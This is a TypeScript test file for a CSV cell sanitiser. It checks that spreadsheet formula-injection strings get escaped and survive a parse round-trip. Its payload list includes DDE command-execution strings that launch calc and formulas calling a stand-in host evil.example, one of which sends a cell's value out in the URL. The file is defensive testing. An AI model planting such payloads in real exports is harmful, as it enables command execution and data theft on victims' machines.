import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { csvBeginning, csvLine, harmless } from './csv-cells.ts'

const payloads = [
  '=1+1',
  "=cmd|'/c calc'!A1",
  '=HYPERLINK("http://evil.example","click")',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '=WEBSERVICE("http://evil.example")',
  '+1+1',
  "+cmd|'/c calc'!A1",
  '-1+1',
  "-2+3+cmd|'/c calc'!A1",
  "@SUM(1+1)*cmd|'/c calc'!A1",
  '@A1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  '\r\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  '","=1+1',
  '"=1+1"',
  "'=1+1",
  "''=1+1",
  "'+1",
  ';=1+1',
  'a,=1+1',
  'a\n=1+1',
  'a\r\n=1+1,"b"',
  '"',
  '""',
  '",""',
  '=\u0000',
  '=1+1\u202e',
  '%0A=1+1',
  '=DDE("cmd";"/c calc";"x")',
  '=A1&B1',
  '-',
  '+',
  '@',
  '=',
  'O\'Brien & Sons, "Wealth"',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u2060@A1',
  '\u202e=1+1',
  '\u3000＝1+1',
  '\v\f=1+1',
  '\u0001=1+1',
  '\u{e0001}=1+1',
  "' =1+1",
  " '\u200b'=1+1",
  ' ',
  '\u200b',
  ' an ordinary text',
  '',
]

/** What a reader gets who removes the apostrophe that `harmless` adds: only a dangerous text has one. */
const restored = (cell: string) => (cell.startsWith("'") && harmless(cell) !== cell ? cell.slice(1) : cell)

describe('C5 a cell', () => {
  it.each(payloads)('%j starts with nothing executable, and can be restored', (payload) => {
    const cell = harmless(payload)
    expect(cell).not.toMatch(/^[\p{White_Space}\p{Cc}\p{Cf}]*[=+\-@\t\r\n\0＝＋－＠]/u)
    expect(restored(cell)).toBe(payload)
    const [row] = parse(csvBeginning + csvLine([payload, 7, null, payload]), { bom: true, relaxColumnCount: false }) as string[][]
    expect(row?.map(restored)).toEqual([payload, '7', '', payload])
    expect(parse(csvLine([payload]), {}) as string[][]).toHaveLength(1)
  })

  it('is tested with at least forty hostile values', () => expect(payloads.length).toBeGreaterThanOrEqual(40))
})
